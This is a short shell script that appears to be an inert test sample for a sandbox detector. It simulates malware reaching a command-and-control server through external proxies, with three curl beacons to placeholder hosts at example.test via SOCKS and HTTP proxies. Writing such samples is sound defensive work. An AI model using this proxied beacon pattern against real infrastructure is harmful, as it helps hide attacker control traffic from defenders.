#!/bin/sh
# SANDTRAP-TEST-MALICIOUS: reaches its controller through external SOCKS and HTTP proxies (T1090.002).
# Inert: the proxies and the controller are names only the fake resolver answers.
curl -s -m 5 --socks5-hostname proxy.example.test:1080 http://c2.example.test/beacon > /dev/null
curl -s -m 5 -x http://proxy.example.test:3128 http://c2.example.test/beacon > /dev/null
https_proxy=http://proxy.example.test:3128 curl -s -m 5 https://c2.example.test/beacon > /dev/null
exit 0
